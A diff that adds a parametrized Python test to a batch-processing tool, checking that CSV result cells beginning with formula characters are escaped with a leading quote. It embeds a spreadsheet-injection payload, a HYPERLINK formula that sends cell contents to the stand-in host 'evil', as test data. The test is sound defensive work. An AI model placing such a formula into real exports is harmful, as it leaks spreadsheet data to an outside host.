@@ -119,6 +119,18 @@ def test_a_table_of_texts(direct: Direct, folder: Path) -> None:
     ]
 
 
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t"])
+def test_no_text_of_a_table_is_a_formula(direct: Direct, folder: Path, begin: str) -> None:
+    """What a model or a caller says may be anybody's."""
+    said = f'{begin}HYPERLINK("http://evil/?"&A1)'
+    row = json.loads(lines(1)) | {"custom_id": said}
+    row["body"]["metadata"] = {"simulate": json.dumps({"answer": said})}
+    batch_id = ran(direct, folder, json.dumps(row).encode())
+    done = direct.litebatch("batches", "results", batch_id, "--format", "csv", cwd=folder)
+    _, cells = csv.reader(StringIO(done.stdout, newline=""))
+    assert cells == [f"'{said}", "200", f"'{said}"]
+
+
 def test_there_are_no_results_before_the_end(direct: Direct, folder: Path) -> None:
     file_id = uploaded(direct, folder, lines(1))
     with direct.holding():
